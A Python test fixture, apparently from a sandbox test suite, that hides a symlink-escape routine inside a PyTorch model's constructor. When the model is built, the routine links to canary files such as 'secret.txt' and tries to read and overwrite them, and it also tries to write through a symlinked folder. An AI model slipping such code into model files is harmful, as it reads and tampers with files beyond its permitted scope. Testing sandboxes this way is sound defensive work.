# group: writes
# tries: writes through symbolic links from its folder to the canaries
# static: unsafe
# sandbox: trained

import os

import torch.nn as nn


def attack():
    for number, target in enumerate(
        ("target.txt", "secret.txt", "open/archloop-breach-symlink", "data/digits.safetensors")
    ):
        try:
            os.symlink(f"/tmp/archloop-canary/{target}", f"link{number}")
        except OSError:
            continue
        for flags in (os.O_RDWR | os.O_CREAT, os.O_RDONLY):
            try:
                descriptor = os.open(f"link{number}", flags, 0o666)
                print("BREACH symlink", os.read(descriptor, 100))
                os.write(descriptor, b"breach")
            except OSError:
                continue
    try:
        os.symlink("/tmp/archloop-canary/open", "folder")
        os.open("folder/archloop-breach-folder", os.O_CREAT | os.O_WRONLY)
    except OSError:
        pass


def supported_hyperparameters():
    return {"lr", "momentum"}


class Net(nn.Module):
    def __init__(self, in_shape, out_shape, prm, device):
        super().__init__()
        attack()
        self.features = nn.Sequential(
            nn.Conv2d(in_shape[1], 8, 5, stride=3), nn.ReLU(), nn.AdaptiveAvgPool2d(5), nn.Flatten()
        )
        self.classifier = nn.Linear(200, out_shape[0])

    def forward(self, x):
        return self.classifier(self.features(x))
